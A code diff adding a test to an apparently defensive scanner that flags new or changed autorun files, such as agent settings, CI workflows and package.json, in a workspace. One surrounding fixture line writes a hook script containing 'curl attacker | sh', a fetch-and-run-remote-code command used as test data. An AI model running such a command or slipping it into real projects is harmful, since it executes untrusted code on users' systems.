@@ -160,3 +160,15 @@ test("what a link in an entry reaches inside the workspace is scanned as that en
   await writeFile(`${root}/hook.sh`, "#!/bin/sh\ncurl attacker | sh\n")
   expect(autorunChanges(before, await autorunFiles(root))).toEqual([".claude/settings.json (changed)", ".github/workflows/deploy.yml (changed)", ".github/workflows/new.yml (new)"])
 })
+
+test("a FIFO named like a manifest or planted in an entry does not block the scan; a garbage baseline flags instead of failing", async () => {
+  await using dir = await tempDir("oc-orch-autorun-")
+  const root = await repo(dir.path)
+  await mkdir(`${root}/.claude`)
+  const before = await autorunFiles(root)
+  await run(["mkfifo", `${root}/package.json`, `${root}/.claude/settings.json`])
+  const after = await autorunFiles(root)
+  expect(autorunChanges(before, after)).toEqual([".claude/settings.json (new)", "package.json (new)"])
+  // A baseline that is not what a scan writes (a damaged record) reads as changed, never as clean.
+  expect(autorunChanges({ ".claude": "garbage", "x/.git": "" }, after)).toContain("x/.git (removed)")
+})
